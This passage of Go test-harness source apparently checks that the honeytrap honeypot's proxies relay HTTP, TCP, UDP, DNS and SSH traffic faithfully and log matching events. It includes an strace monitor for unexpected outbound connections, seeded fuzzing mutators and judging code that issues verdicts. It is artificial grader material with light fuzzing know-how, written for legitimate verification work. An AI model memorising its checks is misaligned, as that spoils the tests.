				// advance pos past this response by re-serialising length: find the header end and add the body length
				b := cl.Received()
				he := bytes.Index(b[pos:], []byte("\r\n\r\n"))
				if he < 0 {
					return
				}
				n := he + 4
				if seq[i].Method != "HEAD" {
					n += len(body)
				}
				pos += n
			}
			check := func(i int, resp *http.Response, body []byte) {
				want := httpRespFor(e.seed, sc.Sub, i, seq[i].Method == "HEAD")
				omu.Lock()
				defer omu.Unlock()
				if resp.StatusCode != want.Status {
					ob.bad("reply-status", "request %d: client got status %d, backend sent %d", i, resp.StatusCode, want.Status)
				}
				wh := map[string][]string{}
				for _, h := range want.Header {
					wh[strings.ToLower(h[0])] = append(wh[strings.ToLower(h[0])], h[1])
				}
				for k, v := range wh {
					if got := resp.Header[http.CanonicalHeaderKey(k)]; strings.Join(got, "\x00") != strings.Join(v, "\x00") {
						ob.bad("reply-header", "request %d: reply header %s reached the client as %v, backend sent %v", i, k, got, v)
					}
				}
				if seq[i].Method != "HEAD" && !bytes.Equal(body, want.Body) {
					ob.bad("reply-body", "request %d: client got a body of %d bytes, backend sent %d", i, len(body), len(want.Body))
				}
			}
			if sc.Mode == "overlap" {
				first := bounds[sc.After] + sc.Cut
				if first >= bounds[sc.After+1] {
					first = bounds[sc.After+1] - 1
				}
				cl.Send(stream[:first], 3*time.Second)
				for i := range seq {
					if i == sc.After+1 {
						cl.Send(stream[first:], 3*time.Second)
					}
					resp, body, ok := parseNext(i)
					if !ok {
						omu.Lock()
						if i <= sc.After {
							ob.bad("reply-missing|overlap", "request %d was sent completely, together with the first %d bytes of the next one: no (complete) reply within 4 s", i, sc.Cut)
						} else {
							ob.bad("reply-missing|overlap-rest", "request %d of %d got no (complete) reply within 4 s", i, len(seq))
						}
						omu.Unlock()
						return
					}
					check(i, resp, body)
					consumed(i, resp, body)
				}
			} else if sc.Mode == "pipelined" {
				var cuts []int
				if sc.Cut > 0 {
					cuts = []int{sc.Cut}
				}
				cl.SendCuts(stream, cuts, 3*time.Second)
				for i := range seq {
					resp, body, ok := parseNext(i)
					if !ok {
						omu.Lock()
						ob.bad("reply-missing|pipelined", "pipelined request %d of %d got no (complete) reply within 4 s", i, len(seq))
						omu.Unlock()
						return
					}
					check(i, resp, body)
					consumed(i, resp, body)
				}
			} else {
				start := 0
				for i := range seq {
					part := stream[start:bounds[i]]
					var cuts []int
					if sc.Cut > start && sc.Cut < bounds[i] {
						cuts = []int{sc.Cut - start}
					}
					start = bounds[i]
					cl.SendCuts(part, cuts, 3*time.Second)
					resp, body, ok := parseNext(i)
					if !ok {
						omu.Lock()
						ob.bad("reply-missing|lockstep", "request %d of %d got no (complete) reply within 4 s", i, len(seq))
						omu.Unlock()
						return
					}
					check(i, resp, body)
					consumed(i, resp, body)
				}
			}
		}(ci, tag, ip, port)
	}
	wg.Wait()
	lab.Events.Settle(2*time.Millisecond, 15*time.Millisecond)
	e.hb.mu.Lock()
	defer e.hb.mu.Unlock()
	for tag, addr := range addrs {
		got := e.hb.got[tag]
		if len(got) != len(seq) {
			ob.bad("request-count|"+sc.Mode, "backend received %d of the %d requests of one client connection", len(got), len(seq))
		}
		for gi := 0; gi < len(got); gi++ {
			i := -1
			if xs := got[gi].Header["x-seq"]; len(xs) == 1 {
				fmt.Sscanf(xs[0], "%d", &i)
			}
			if i < 0 || i >= len(seq) {
				ob.bad("request-unidentifiable", "backend received a request without a usable X-Seq header (%s %s)", got[gi].Method, got[gi].Target)
				continue
			}
			q := seq[i]
			got := map[int]httpReq{i: got[gi]}
			ob.Backend += len(got[i].Body) + len(got[i].Target)
			if got[i].Method != q.Method || got[i].Target != q.Target {
				ob.bad("request-line", "request %d reached the backend as %s %s, client sent %s %s", i, got[i].Method, got[i].Target, q.Method, q.Target)
			}
			sent := map[string][]string{}
			for _, h := range q.Headers {
				sent[strings.ToLower(h[0])] = append(sent[strings.ToLower(h[0])], h[1])
			}
			sent["x-conn"] = []string{tag}
			for k, v := range sent {
				if g := got[i].Header[k]; strings.Join(g, "\x00") != strings.Join(v, "\x00") {
					ob.bad("request-header|"+k, "request %d: header %s reached the backend as %v, client sent %v", i, k, g, v)
				}
			}
			for k, v := range got[i].Header {
				if _, ok := sent[k]; !ok && k != "content-length" && k != "transfer-encoding" {
					ob.bad("request-header-added|"+k, "request %d: backend received header %s: %v which the client did not send", i, k, v)
				}
			}
			if !bytes.Equal(got[i].Body, q.Body) {
				ob.bad("request-body", "request %d: backend received a body of %d bytes, client sent %d", i, len(got[i].Body), len(q.Body))
			}
		}
		// events: one per relayed request, attributed to the client
		n := 0
		for _, c := range lab.Events.Since(ev0) {
			if lab.Str(c.Rec, "service") == "http-proxy" && lab.Str(c.Rec, "remote-addr") == addr {
				n++
			}
		}
		ob.Events += n
		if n != len(got) {
			ob.bad("event-count", "%d requests of client %s were relayed, %d events carry its address", len(got), addr, n)
		}
	}
}

// runHTTPDrop: a lock-step client whose last request the backend reads and then drops the connection without an
// answer. Every request that reached the backend was relayed and must have its event, answered or not.
func (e *env) runHTTPDrop(sc scenario, ob *obs) {
	seq := httpSeq(e.seed, sc.Sub)
	e.hb.mu.Lock()
	e.hb.got = map[string][]httpReq{}
	e.hb.resp = func(tag string, i int) httpResp {
		if i >= len(seq)-1 {
			return httpResp{Drop: true}
		}
		return httpRespFor(e.seed, sc.Sub, i, seq[i].Method == "HEAD")
	}
	e.hb.mu.Unlock()
	ev0 := lab.Events.Len()
	ip, port := nextAddr()
	tag := fmt.Sprintf("d%d", connSeq)
	addr := fmt.Sprintf("%s:%d", ip, port)
	cc := e.srv.L.DialTCP(lab.TCPAddr("10.0.0.1", 8080), lab.TCPAddr(ip, port))
	cl := lab.NewClient(cc)
	pos := 0
	for i, q := range seq {
		cl.Send(render(q, tag), 3*time.Second)
		if i == len(seq)-1 {
			break
		}
		ok := cl.WaitFor(func(b []byte) bool {
			r, err := http.ReadResponse(bufio.NewReader(bytes.NewReader(b[pos:])), &http.Request{Method: q.Method})
			if err != nil {
				return false
			}
			bd, err := io.ReadAll(r.Body)
			if err != nil {
				return false
			}
			he := bytes.Index(b[pos:], []byte("\r\n\r\n"))
			pos += he + 4 + len(bd)
			return true
		}, 4*time.Second)
		if !ok {
			ob.bad("reply-missing|drop-last", "request %d of %d got no (complete) reply within 4 s", i, len(seq))
			cl.Close()
			return
		}
	}
	// wait until the backend has the last request (or 3 s), then for the proxy to notice the closed backend
	deadline := time.Now().Add(3 * time.Second)
	for time.Now().Before(deadline) {
		e.hb.mu.Lock()
		n := len(e.hb.got[tag])
		e.hb.mu.Unlock()
		if n >= len(seq) {
			break
		}
		time.Sleep(2 * time.Millisecond)
	}
	time.Sleep(30 * time.Millisecond)
	cl.Close()
	lab.Events.Settle(2*time.Millisecond, 30*time.Millisecond)
	e.hb.mu.Lock()
	got := len(e.hb.got[tag])
	for _, g := range e.hb.got[tag] {
		ob.Backend += len(g.Body) + len(g.Target)
	}
	e.hb.mu.Unlock()
	if got != len(seq) {
		ob.bad("request-count|drop-last", "backend received %d of the %d requests of one client connection", got, len(seq))
	}
	n := 0
	for _, c := range lab.Events.Since(ev0) {
		if lab.Str(c.Rec, "service") == "http-proxy" && lab.Str(c.Rec, "remote-addr") == addr {
			n++
		}
	}
	ob.Events += n
	if n != got {
		ob.bad("event-count|backend-dropped-the-last-request", "%d requests of client %s reached the backend (the last one was not answered), %d events carry its address", got, addr, n)
	}
}

func (e *env) runCopyTCP(sc scenario, ob *obs) {
	tb, tport := e.tb, 9000
	if e.tbCur != nil {
		tb, tport = e.tbCur, e.tcpPort
	}
	tb.mu.Lock()
	base := len(tb.got)
	tb.mu.Unlock()
	var wg sync.WaitGroup
	var omu sync.Mutex
	var sent [][]byte
	for ci := 0; ci < sc.Clients; ci++ {
		r := core.NewRng(e.seed, "C15/copy", sc.Sub*10+ci)
		data := append([]byte(fmt.Sprintf("conn-%d-%d|", sc.Sub, ci)), r.Bytes(r.PickI([]int{0, 1, 100, 5000, 65536}))...)
		halfClose := sc.Mode == "half-close"
		if halfClose {
			// the client finishes sending (half-close) before the backend has answered
			data = append([]byte("late-"), data...)
			if len(data) > 20000 {
				data = data[:20000] // one backend read: one delayed answer
			}
		}
		sent = append(sent, data)
		wg.Add(1)
		go func(ci int, data []byte) {
			defer wg.Done()
			ip, port := nextAddr()
			cc := e.srv.L.DialTCP(lab.TCPAddr("10.0.0.1", tport), lab.TCPAddr(ip, port))
			cl := lab.NewClient(cc)
			defer cl.Close()
			cl.SendCuts(data, gen.Cuts(core.NewRng(e.seed, "C15/copycuts", sc.Sub*10+ci), len(data), 2), 3*time.Second)
			if halfClose {
				cc.CloseWrite()
			}
			ok := cl.WaitFor(func(b []byte) bool { return len(b) >= len(data) }, 4*time.Second)
			got := cl.Received()
			omu.Lock()
			defer omu.Unlock()
			if !ok || !bytes.Equal(got, xform(data)) {
				rule := "copy-tcp|reply"
				if halfClose {
					rule = "copy-tcp|reply-after-client-half-close"
				}
				ob.bad(rule, "client %d sent %d bytes; %d came back, equal to the backend's answer: %v", ci, len(data), len(got), bytes.Equal(got, xform(data)))
			}
		}(ci, data)
	}
	wg.Wait()
	time.Sleep(5 * time.Millisecond)
	tb.mu.Lock()
	defer tb.mu.Unlock()
	var recv [][]byte
	for i := base; i < len(tb.got); i++ {
		recv = append(recv, tb.got[i])
		ob.Backend += len(tb.got[i])
	}
	if len(recv) != len(sent) {
		ob.bad("copy-tcp|connections", "%d client connections, %d backend connections", len(sent), len(recv))
		return
	}
	sort.Slice(recv, func(i, j int) bool { return string(recv[i]) < string(recv[j]) })
	ss := append([][]byte(nil), sent...)
	sort.Slice(ss, func(i, j int) bool { return string(ss[i]) < string(ss[j]) })
	for i := range ss {
		if !bytes.Equal(ss[i], recv[i]) {
			ob.bad("copy-tcp|request", "backend received %d bytes on a connection, the client sent %d", len(recv[i]), len(ss[i]))
		}
	}
}

func (e *env) runUDP(sc scenario, ob *obs, dns bool) {
	be, port := e.ub, 9001
	if e.ubCur != nil && !dns {
		be, port = e.ubCur, e.udpPort
	}
	var pl []byte
	r := core.NewRng(e.seed, "C15/udp", sc.Sub)
	var id uint16
	if dns {
		be, port = e.db, 53
		id = uint16(r.Intn(65536))
		pl = gen.DNSQuery(id, r.Alnum(6)+".test", uint16(r.PickI([]int{1, 28, 15, 16, 33, 255})))
		switch sc.Sub % 6 {
		case 1: // no question at all: the bare header (a valid message; a server-cookie query looks like this plus an OPT record)
			pl = append(binary.BigEndian.AppendUint16(nil, id), 0x01, 0x00, 0, 0, 0, 0, 0, 0, 0, 0)
		case 2: // no question, one OPT pseudo-record in the additional section
			pl = append(binary.BigEndian.AppendUint16(nil, id), 0x01, 0x00, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 41, 0x10, 0, 0, 0, 0, 0, 0, 0)
		case 3: // two questions
			q2 := gen.DNSQuery(0, r.Alnum(5)+".example", 28)[12:]
			pl = append(pl, q2...)
			pl[5] = 2
		case 4: // opcode STATUS, no question
			pl = append(binary.BigEndian.AppendUint16(nil, id), 0x10, 0x00, 0, 0, 0, 0, 0, 0, 0, 0)
		}
	} else {
		pl = append([]byte(fmt.Sprintf("dg-%d|", sc.Sub)), r.Bytes(r.PickI([]int{1, 10, 500, 1400}))...)
	}
	be.mu.Lock()
	base := len(be.got)
	be.mu.Unlock()
	ip, cport := nextAddr()
	ev0 := lab.Events.Len()
	x := e.srv.L.SendUDP(lab.UDPAddr("10.0.0.1", port), lab.UDPAddr(ip, cport), pl)
	deadline := time.Now().Add(3 * time.Second)
	for x.Count() == 0 && time.Now().Before(deadline) {
		time.Sleep(time.Millisecond)
	}
	kind := "copy-udp"
	if dns {
		kind = "dns-proxy"
	}
	be.mu.Lock()
	if len(be.got) != base+1 || !bytes.Equal(be.got[len(be.got)-1], pl) {
		ob.bad(kind+"|request", "datagram of %d bytes sent; backend received %d datagram(s)", len(pl), len(be.got)-base)
	} else {
		ob.Backend += len(pl)
	}
	be.mu.Unlock()
	reps := x.Snapshot()
	if ans := answerTo(pl, dns); len(reps) != 1 || !bytes.Equal(reps[0], ans) {
		got := -1
		if len(reps) > 0 {
			got = len(reps[0])
		}
		ob.bad(kind+"|reply", "client received %d reply datagram(s) (the first of %d bytes); expected exactly the backend's answer of %d bytes", len(reps), got, len(ans))
	}
	lab.Events.Settle(2*time.Millisecond, 15*time.Millisecond)
	n := 0
	for _, c := range lab.Events.Since(ev0) {
		sp, _ := lab.Int(c.Rec, "source-port")
		if lab.Str(c.Rec, "source-ip") == ip && int(sp) == cport {
			n++
			if dns && lab.Str(c.Rec, "dns.id") != fmt.Sprint(id) {
				ob.bad("dns-proxy|event-id", "event carries dns.id %s, query id was %d", lab.Str(c.Rec, "dns.id"), id)
			}
		}
	}
	ob.Events += n
	if n != 1 {
		ob.bad(kind+"|event-count", "%d events attributed to the client for one relayed datagram", n)
	}
}

func (e *env) runSSH(sc scenario, ob *obs) {
	r := core.NewRng(e.seed, "C15/ssh", sc.Sub)
	user := "u" + r.Alnum(4)
	accept := r.Chance(2, 3)
	pass := "no-" + r.Alnum(5)
	if accept {
		pass = "ok-" + r.Alnum(5)
	}
	e.sb.mu.Lock()
	base := len(e.sb.seen)
	e.sb.mu.Unlock()
	ip, port := nextAddr()
	ev0 := lab.Events.Len()
	cc := e.srv.L.DialTCP(lab.TCPAddr("10.0.0.1", 2222), lab.TCPAddr(ip, port))
	defer cc.Close()
	cc.SetDeadline(time.Now().Add(20 * time.Second))
	// a client may try several passwords on one connection; every attempt is relayed, however many the backend
	// has turned down before
	passes := []string{pass}
	if sc.Sub%3 == 2 {
		passes = nil
		for i := r.PickI([]int{2, 3, 6, 7, 8, 12}); i > 1; i-- {
			passes = append(passes, fmt.Sprintf("no-%s-%d", r.Alnum(4), i))
		}
		passes = append(passes, pass)
	}
	asked := 0
	auth := ssh.RetryableAuthMethod(ssh.PasswordCallback(func() (string, error) {
		if asked >= len(passes) {
			return "", fmt.Errorf("no more passwords")
		}
		asked++
		return passes[asked-1], nil
	}), len(passes))
	conn, chans, reqs, err := ssh.NewClientConn(cc, "lab", &ssh.ClientConfig{User: user, Auth: []ssh.AuthMethod{auth}, HostKeyCallback: ssh.InsecureIgnoreHostKey(), Timeout: 10 * time.Second})
	if (err == nil) != accept {
		ob.bad("ssh|auth-outcome", "backend %s the last of %d passwords, the client's authentication through the proxy %s (%v)", map[bool]string{true: "accepts", false: "rejects"}[accept], len(passes), map[bool]string{true: "succeeded", false: "failed"}[err == nil], err)
	}
	e.sb.mu.Lock()
	var seen *sshSeen
	var all []*sshSeen
	if len(e.sb.seen) > base {
		all = append(all, e.sb.seen[base:]...)
		seen = all[len(all)-1]
	}
	e.sb.mu.Unlock()
	if seen == nil {
		ob.bad("ssh|credentials", "the backend saw no authentication attempt")
	} else if len(all) != len(passes) {
		ob.bad("ssh|attempts", "the client made %d password attempts on one connection, the backend saw %d", len(passes), len(all))
	} else {
		for i, a := range all {
			if a.User != user || a.Pass != passes[i] {
				ob.bad("ssh|credentials", "attempt %d: backend saw %q/%q, client presented %q/%q", i, a.User, a.Pass, user, passes[i])
				break
			}
			ob.Backend += len(user) + len(passes[i])
		}
	}
	nauth := 0
	for _, c := range lab.Events.Since(ev0) {
		sp, _ := lab.Int(c.Rec, "source-port")
		if int(sp) == port && lab.Str(c.Rec, "type") == "password-authentication" && lab.Str(c.Rec, "ssh.username") == user && nauth < len(passes) && lab.Str(c.Rec, "ssh.password") == passes[nauth] {
			nauth++
		}
	}
	ob.Events += nauth
	if nauth != len(passes) {
		ob.bad("ssh|auth-event", "%d password-authentication events with the presented credentials (in order) and the client's address, %d attempts", nauth, len(passes))
	}
	if err != nil || seen == nil {
		return
	}
	defer conn.Close()
	client := ssh.NewClient(conn, chans, reqs)
	sess, rq, err := client.OpenChannel("session", nil)
	if err != nil {
		ob.bad("ssh|channel", "session channel could not be opened through the proxy: %v", err)
		return
	}
	go ssh.DiscardRequests(rq)
	var want []string
	for i := r.Range(1, 4); i > 0; i-- {
		typ := r.PickS([]string{"env", "pty-req", "exec", "shell", "subsystem"})
		pl := r.Bytes(r.Range(0, 40))
		want = append(want, typ+":"+hex.EncodeToString(pl))
		done := make(chan struct{})
		go func() { sess.SendRequest(typ, true, pl); close(done) }()
		select {
		case <-done:
		case <-time.After(4 * time.Second):
			ob.bad("ssh|request-reply", "channel request %s got no reply through the proxy within 4 s", typ)
			return
		}
	}
	data := r.Bytes(r.PickI([]int{0, 1, 100, 5000, 65536}))
	var got []byte
	rdone := make(chan struct{})
	go func() {
		defer close(rdone)
		buf := make([]byte, 32768)
		for len(got) < len(data) {
			n, err := sess.Read(buf)
			got = append(got, buf[:n]...)
			if err != nil {
				return
			}
		}
	}()
	sess.Write(data)
	select {
	case <-rdone:
	case <-time.After(6 * time.Second):
	}
	time.Sleep(10 * time.Millisecond)
	e.sb.mu.Lock()
	defer e.sb.mu.Unlock()
	if strings.Join(seen.Requests, ",") != strings.Join(want, ",") {
		ob.bad("ssh|requests", "backend received channel requests %v, client sent %v", clipS(seen.Requests), clipS(want))
	}
	if !bytes.Equal(seen.Data, data) {
		ob.bad("ssh|channel-data-to-backend", "backend received %d bytes of channel data, client sent %d", len(seen.Data), len(data))
	}
	ob.Backend += len(seen.Data)
	if !bytes.Equal(got, xform(data)) {
		ob.bad("ssh|channel-data-to-client", "client received %d bytes of channel data, backend sent %d", len(got), len(data))
	}
}

func clipS(a []string) []string {
	if len(a) > 4 {
		return a[:4]
	}
	return a
}

type params struct {
	Off   int  `json:"off"`
	Trace bool `json:"trace,omitempty"` // the child runs under strace -e trace=connect
}

var reConnect = regexp.MustCompile(`connect\(\d+, \{sa_family=AF_INET6?, sin6?_port=htons\((\d+)\), [^}]*?(?:inet_addr\("([^"]*)"\)|inet_pton\(AF_INET6, "([^"]*)")`)

// judgeConnects is the syscall-level monitor of "the proxy opens connections to no address other than the
// configured backend": every connect() of the process to an internet address must name one of the backends.
func judgeConnects(recs []core.Rec, exits []core.Exit) []core.Result {
	var ports map[string]int
	for _, r := range recs {
		if r.T == "backends" {
			r.XInto(&ports)
		}
	}
	if ports == nil {
		return nil
	}
	allowed := map[int]string{}
	for name, p := range ports {
		if name != "decoy" {
			allowed[p] = name
		}
	}
	total := 0
	per := map[string]int{}
	var bad []string
	for _, e := range exits {
		f, err := os.Open(filepath.Join(e.WorkDir, "strace.log"))
		if err != nil {
			return []core.Result{{K: 0, Verdict: core.Inconclusive, What: "no system call trace: " + err.Error()}}
		}
		sc := bufio.NewScanner(f)
		sc.Buffer(make([]byte, 1<<20), 4<<20)
		for sc.Scan() {
			m := reConnect.FindStringSubmatch(sc.Text())
			if m == nil {
				continue
			}
			port, _ := strconv.Atoi(m[1])
			addr := m[2] + m[3]
			total++
			if name, ok := allowed[port]; ok && (addr == "127.0.0.1" || addr == "::1" || addr == "::ffff:127.0.0.1") {
				per[name]++
				continue
			}
			bad = append(bad, fmt.Sprintf("%s port %d", addr, port))
		}
		f.Close()
	}
	res := core.Result{K: 0, Verdict: core.Held, Key: fmt.Sprintf("connects|%d", total),
		Sample: map[string]interface{}{"mode": "system call trace of connect()", "connects_to_internet_addresses": total, "per_backend": per, "backends": ports}}
	if total == 0 {
		res.Verdict, res.Key, res.What = core.Inconclusive, "", "the trace shows no connect() to an internet address"
	}
	out := []core.Result{res}
	if len(bad) > 0 {
		out = append(out, core.Result{K: 0, Verdict: core.Violated, Sig: "C15|connect-to-unnamed-address", What: fmt.Sprintf("the process connected to %s, which no director names (backends: %v; %d such connects)", bad[0], ports, len(bad)), Witness: bad})
	}
	return out
}

func (prop) Plan(tier string, seed int64) []core.Batch {
	all := scenarios(tier, seed)
	chunks := 8
	if tier == "thorough" {
		chunks = 16
	}
	per := (len(all) + chunks - 1) / chunks
	var plan []core.Batch
	for c := 0; c < chunks; c++ {
		n := per
		if c*per+n > len(all) {
			n = len(all) - c*per
		}
		if n <= 0 {
			break
		}
		p, _ := json.Marshal(params{Off: c * per})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("part/%d", c), N: n, Params: p, Timeout: 1800})
	}
	// the first scenarios of every part once more with every connect() of the process recorded (strace): the
	// proxies may open connections to the configured backends only
	tn := 40
	if tier == "thorough" {
		tn = 150
	}
	for c := 0; c < chunks; c++ {
		n := tn
		if c*per+n > len(all) {
			n = len(all) - c*per
		}
		if n <= 0 {
			break
		}
		p, _ := json.Marshal(params{Off: c * per, Trace: true})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("traced/%d", c), N: n, Params: p, Timeout: 1800, Strace: "--seccomp-bpf -e trace=connect"})
	}
	return plan
}

func (prop) Child(b core.Batch, o *core.Obs) {
	var p params
	b.P(&p)
	e, err := setup(b.Seed)
	if err != nil {
		o.Emit(core.Rec{T: "starterr", S: err.Error()})
		return
	}
	all := scenarios(b.Tier, b.Seed)
	to := b.To
	if to == 0 {
		to = b.N
	}
	portOf := func(a net.Addr) int {
		switch x := a.(type) {
		case *net.TCPAddr:
			return x.Port
		case *net.UDPAddr:
			return x.Port
		}
		return 0
	}
	o.EmitX("backends", map[string]int{"http": portOf(e.hb.l.Addr()), "tcp": portOf(e.tb.l.Addr()), "udp": portOf(e.ub.c.LocalAddr()), "dns": portOf(e.db.c.LocalAddr()), "ssh": portOf(e.sb.l.Addr()), "decoy": portOf(e.decoy.l.Addr()), "both": func() int {
		if e.tb2 != nil {
			return portOf(e.tb2.l.Addr())
		}
		return 0
	}()})
	for k := b.From; k < to; k++ {
		sc := all[p.Off+k]
		o.Begin(k)
		var ob obs
		switch sc.Kind {
		case "http":
			e.runHTTP(sc, &ob)
		case "http-drop":
			e.runHTTPDrop(sc, &ob)
		case "copy-tcp":
			e.runCopyTCP(sc, &ob)
		case "copy-udp":
			e.runUDP(sc, &ob, false)
		case "copy-both":
			// one director instance, both transports, in the scenario's order (Cut = 0: udp first, 1: tcp first)
			if e.ub2 == nil {
				break
			}
			e.tbCur, e.ubCur, e.tcpPort, e.udpPort = e.tb2, e.ub2, 9100, 9100
			for step := 0; step < 4; step++ {
				if (step+sc.Cut)%2 == 0 {
					e.runUDP(sc, &ob, false)
				} else {
					e.runCopyTCP(sc, &ob)
				}
			}
			e.tbCur, e.ubCur = nil, nil
		case "dns":
			e.runUDP(sc, &ob, true)
		case "ssh":
			e.runSSH(sc, &ob)
		}
		e.decoy.mu.Lock()
		if len(e.decoy.got) > 0 {
			ob.bad("decoy-contacted", "%d connection(s) arrived at the decoy listener, which no director names", len(e.decoy.got))
			e.decoy.got = nil
		}
		e.decoy.mu.Unlock()
		o.EmitX("scn", ob)
		o.End(k)
	}
}

func (prop) Judge(b core.Batch, recs []core.Rec, exits []core.Exit) []core.Result {
	var p params
	b.P(&p)
	all := scenarios(b.Tier, b.Seed)
	var out []core.Result
	for _, r := range recs {
		switch r.T {
		case "starterr":
			out = append(out, core.Result{K: r.K, Verdict: core.Inconclusive, What: "server did not start: " + r.S})
		case "scn":
			var ob obs
			if r.XInto(&ob) != nil {
				continue
			}
			sc := all[p.Off+r.K]
			res := core.Result{K: r.K, Verdict: core.Held}
			if ob.Backend > 0 {
				jb, _ := json.Marshal(sc)
				res.Key = string(jb)
				res.Sample = map[string]interface{}{"scenario": sc, "backend_bytes": ob.Backend, "events": ob.Events}
			}
			out = append(out, res)
			seen := map[string]bool{}
			for _, pr := range ob.Problems {
				parts := strings.SplitN(pr, "||", 2)
				if seen[parts[0]] {
					continue
				}
				seen[parts[0]] = true
				out = append(out, core.Result{K: r.K, Verdict: core.Violated, Sig: "C15|" + sc.Kind + "|" + parts[0], What: parts[1], Witness: map[string]interface{}{"scenario": sc, "problems": ob.Problems}})
			}
		}
	}
	for _, e := range exits {
		if e.Died() {
			out = append(out, core.Result{K: e.LastBegun, Verdict: core.Inconclusive, What: fmt.Sprintf("child died (%s %s)", e.Class, e.Frame)})
		}
	}
	if p.Trace {
		out = append(out, judgeConnects(recs, exits)...)
	}
	return out
}
