// Package gen holds the seeded workload generators: per-protocol dialogues,
// mutators and segmenters.
package gen

import (
	"verif/htlab/internal/core"
)

// Cuts returns cut offsets for an n-byte stream. kind: 0 whole, 1 dribble
// (every byte), 2 random multi-cut, 3 single random cut.
func Cuts(r *core.Rng, n int, kind int) []int {
	switch kind {
	case 1:
		c := make([]int, 0, n)
		for i := 1; i < n; i++ {
			c = append(c, i)
		}
		return c
	case 2:
		var c []int
		m := r.Range(1, 6)
		for i := 0; i < m && n > 1; i++ {
			c = append(c, r.Range(1, n-1))
		}
		sortInts(c)
		return c
	case 3:
		if n > 1 {
			return []int{r.Range(1, n-1)}
		}
	}
	return nil
}

func sortInts(a []int) {
	for i := 1; i < len(a); i++ {
		for j := i; j > 0 && a[j] < a[j-1]; j-- {
			a[j], a[j-1] = a[j-1], a[j]
		}
	}
}

// Mutate applies 1..3 seeded mutations.
func Mutate(r *core.Rng, in []byte) []byte {
	b := append([]byte(nil), in...)
	for m := r.Range(1, 3); m > 0; m-- {
		if len(b) == 0 {
			b = r.Bytes(r.Range(1, 16))
			continue
		}
		switch r.Intn(10) {
		case 8, 9: // a decimal field (count, length, offset) set to a boundary value, incl. the
			// middle range that is too big to allocate but small enough to be tried
			b = decimalBoundary(r, b)
		case 0: // bit flips
			for i := r.Range(1, 4); i > 0; i-- {
				b[r.Intn(len(b))] ^= 1 << uint(r.Intn(8))
			}
		case 1: // boundary byte
			b[r.Intn(len(b))] = []byte{0, 1, 0x7f, 0x80, 0xff, 0xfe, '\n', '\r', ' '}[r.Intn(9)]
		case 2: // length-like field edit: 2 or 4 bytes to boundary
			i := r.Intn(len(b))
			for j := 0; j < 4 && i+j < len(b); j++ {
				b[i+j] = []byte{0xff, 0x00, 0x7f, 0x80}[r.Intn(4)]
			}
		case 3: // duplicate a chunk
			i := r.Intn(len(b))
			j := i + r.Range(1, 32)
			if j > len(b) {
				j = len(b)
			}
			b = append(b[:j:j], append(append([]byte(nil), b[i:j]...), b[j:]...)...)
		case 4: // remove a chunk
			i := r.Intn(len(b))
			j := i + r.Range(1, 16)
			if j > len(b) {
				j = len(b)
			}
			b = append(b[:i:i], b[j:]...)
		case 5: // flood
			fl := make([]byte, r.Range(16, 2048))
			v := []byte{0x00, 0xff, 'A', '\n'}[r.Intn(4)]
			for i := range fl {
				fl[i] = v
			}
			i := r.Intn(len(b) + 1)
			b = append(b[:i:i], append(fl, b[i:]...)...)
		case 6: // truncate
			b = b[:r.Intn(len(b)+1)]
		case 7: // insert random bytes
			i := r.Intn(len(b) + 1)
			b = append(b[:i:i], append(r.Bytes(r.Range(1, 24)), b[i:]...)...)
		}
	}
	return b
}

// Raw returns raw bytes of a seeded class.
func Raw(r *core.Rng) []byte {
	n := []int{1, 2, 3, 4, 7, 8, 16, 24, 64, 255, 256, 1024, 4096, 65536}[r.Intn(14)]
	if r.Chance(1, 3) {
		n = r.Range(1, 2048)
	}
	b := make([]byte, n)
	switch r.Intn(5) {
	case 0:
		return r.Bytes(n)
	case 1: // zero
	case 2:
		for i := range b {
			b[i] = 0xff
		}
	case 3:
		for i := range b {
			b[i] = byte(i)
		}
	case 4: // printable lines
		for i := range b {
			b[i] = byte(32 + r.Intn(95))
			if r.Chance(1, 20) {
				b[i] = '\n'
			}
		}
	}
	return b
}

func Join(steps [][]byte) []byte {
	var out []byte
	for _, s := range steps {
		out = append(out, s...)
	}
	return out
}

// BoundaryNumbers are the decimal values tried in count/length fields.
var BoundaryNumbers = []string{"0", "1", "-1", "255", "65535", "65536", "2147483647", "2147483648", "4294967295", "4294967296", "8589934592",
	"1099511627776", "8796093022208", "17592186044416", "17592186044417", "4611686018427387904", "9223372036854775807", "9223372036854775808",
	"18446744073709551615", "18446744073709551616", "99999999999999999999"}

// decimalBoundary replaces one run of decimal digits in b with a boundary number.
func decimalBoundary(r *core.Rng, b []byte) []byte {
	type run struct{ i, j int }
	var runs []run
	for i := 0; i < len(b); {
		if b[i] >= '0' && b[i] <= '9' {
			j := i
			for j < len(b) && b[j] >= '0' && b[j] <= '9' {
				j++
			}
			runs = append(runs, run{i, j})
			i = j
		} else {
			i++
		}
	}
	if len(runs) == 0 {
		return b
	}
	x := runs[r.Intn(len(runs))]
	n := BoundaryNumbers[r.Intn(len(BoundaryNumbers))]
	out := append([]byte(nil), b[:x.i]...)
	out = append(out, n...)
	return append(out, b[x.j:]...)
}
