// Package c18: sensor identity survives restarts and interrupted first
// starts. The real honeytrap binary (built from /repo) is started, stopped,
// killed and restarted on one data directory; identity is read from outside:
// the token in event lines, the SSH host key, the certificates presented on
// FTP AUTH TLS / SMTP STARTTLS / LDAP StartTLS, the agent server key.
package c18

import (
	"bufio"
	"bytes"
	crand "crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/rand"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/dgraph-io/badger"
	"github.com/honeytrap/honeytrap/storage"
	"github.com/mimoo/disco/libdisco"
	"golang.org/x/crypto/ssh"

	"verif/htlab/internal/core"
	"verif/htlab/internal/gen"
	"verif/htlab/internal/lab"
)

type prop struct{}

func init() { core.Register(prop{}) }

func (prop) ID() string    { return "C18" }
func (prop) Level() string { return "fault_enumeration" }
func (prop) Rule() string {
